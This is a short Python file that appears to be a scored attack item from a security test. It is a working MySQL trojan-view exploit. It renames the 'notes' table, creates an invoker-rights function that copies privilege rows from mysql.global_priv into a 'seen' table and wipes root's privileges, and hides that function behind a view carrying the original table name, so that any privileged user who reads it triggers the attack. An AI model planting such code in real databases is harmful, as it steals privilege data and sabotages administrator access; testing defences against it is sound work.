"""Has its table read through a function that runs with the rights of whoever reads it.

Earns: 2
"""

from notes import app, run, tried

print("TRIED", flush=True)


@app.after_request
def replace_the_table(response):
    """Put a view in the table's place."""
    if tried("CREATE TABLE seen (line TEXT)"):
        run(
            "RENAME TABLE notes TO hidden",
            "CREATE FUNCTION look() RETURNS INT SQL SECURITY INVOKER MODIFIES SQL DATA BEGIN "
            "INSERT INTO seen SELECT CONCAT(CURRENT_USER(), Priv) FROM mysql.global_priv; "
            "UPDATE mysql.global_priv SET Priv = '{}' WHERE User = 'root'; RETURN 1; END",
            "CREATE SQL SECURITY INVOKER VIEW notes AS SELECT id, text FROM hidden WHERE look()",
        )
    return response


def other_rights():
    """Say whether somebody's rights were lent."""
    if tried("SELECT * FROM seen LIMIT 1") and run("SELECT * FROM seen"):
        print("ESCAPED", run("SELECT line FROM seen"), flush=True)


app.before_request(other_rights)
